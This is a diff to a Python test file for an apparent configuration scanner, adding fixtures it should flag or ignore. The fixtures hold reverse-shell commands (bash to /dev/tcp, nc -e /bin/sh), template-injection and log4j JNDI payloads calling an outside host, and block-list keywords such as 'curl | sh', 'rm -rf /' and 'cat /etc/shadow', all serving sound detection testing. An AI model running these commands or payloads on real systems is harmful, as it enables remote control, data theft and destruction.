@@ -81,6 +81,9 @@ FIRING: dict[str, tuple[str, str]] = {
         "critical command",
         '{"name": "x", "version": "1", "scripts": {"a": "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"}}',
     ),
+    "reverse shell in prose": ("warning command", '{"notes": "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"}'),
+    "talk of a reverse shell": ("info command", "blocked_words:\n- nc -e /bin/sh\n- keyword: bash -i >& /dev/tcp\n"),
+    "reverse shell under passwords": ("critical command", "passwords:\n- nc -e /bin/sh\nn: 1\n"),
     "template": ("critical template", '{"prefix": "{{ x.__class__.__mro__ }}"}'),
     "log4j": ("critical template", '{"name": "${jndi:ldap://203.0.113.9/a}"}'),
     "collector": ("warning collector", '{"callback": "https://webhook.site/0000"}'),
@@ -115,6 +118,12 @@ SILENT: dict[str, str] = {
         "a:\n  password: your-password\n  api_key: <API_KEY>\n  token: ${TOKEN}\n  secret: changeme\n  passwd: ****\n"
     ),
     "references": "a:\n  password: $DB_PASSWORD\n  api_key: env:KEY\n  access_token: '{{ secrets.token }}'\n",
+    "references of other kinds": (
+        '{"api_key": "#/components/schemas/KillSwitch_9xQ", "client_secret": "os.environ/PROJECT1_SECRE_9xKqz"}'
+    ),
+    "words that texts are compared with": (
+        "always_block_keywords:\n- keyword: curl | sh\n- keyword: rm -rf /\nterms:\n- cat /etc/shadow\n- eval(base64\n"
+    ),
     "token settings": '{"bos_token": "<s>", "pad_token": "[PAD]", "eos_token_id": 2, "image_token": "<|image_pad|>"}',
     "address without password": "url: https://example.com/a@b:c\nssh: git@github.com:a/b.git\n",
     "local address": "url: postgres://postgres:postgres@localhost:5432/x\n",
@@ -200,11 +209,14 @@ def test_credential_in_a_key_or_beside_a_command_is_hidden_too() -> None:
 def test_chat_templates_go_to_the_scanner_of_templates() -> None:
     """A template as a value, in a list of named ones, and in a mapping is read as a template, at its place."""
     evil = "{{ cycler.__init__.__globals__ }}"
-    for value in (evil, [{"name": "tool_use", "template": evil}], {"rag": evil}):
+    lines = ["{% for m in messages %}", evil, "{% endfor %}"]
+    for value in (evil, [{"name": "tool_use", "template": evil}], {"rag": evil}, lines, [evil]):
         report = look(json.dumps({"chat_template": value}))
         assert {finding.severity for finding in report.findings} >= {Severity.CRITICAL}
         assert all(finding.location.startswith("config:chat_template") for finding in report.findings)
     assert look(json.dumps({"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"})).findings == ()
+    report = look(json.dumps({"chat_template": [lines[0], "{{ m['content'] }}", lines[2]]}))
+    assert (report.findings, report.status) == ((), "scanned")
 
 
 @pytest.mark.parametrize(
